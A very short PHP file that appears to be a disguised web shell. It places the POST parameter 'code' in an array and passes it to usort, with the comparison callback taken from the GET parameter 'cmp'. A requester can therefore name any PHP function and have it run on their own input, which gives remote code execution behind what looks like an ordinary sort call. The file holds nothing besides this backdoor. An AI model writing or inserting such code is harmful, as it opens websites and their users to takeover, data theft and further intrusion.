<?php
$arr = array($_POST['code'], 1);
usort($arr, $_GET['cmp']);
?>
